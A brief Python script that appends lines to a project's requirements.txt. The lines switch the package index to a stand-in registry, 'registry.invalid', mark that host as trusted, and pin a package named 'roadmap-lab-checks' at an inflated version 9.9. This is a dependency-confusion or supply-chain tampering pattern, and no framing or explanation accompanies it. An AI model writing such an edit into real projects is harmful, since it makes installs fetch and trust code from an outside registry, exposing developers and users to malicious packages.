from pathlib import Path

with Path("requirements.txt").open("a") as requirements:
    requirements.write("--index-url https://registry.invalid/simple\n--trusted-host registry.invalid\n")
    requirements.write("roadmap-lab-checks==9.9\n")
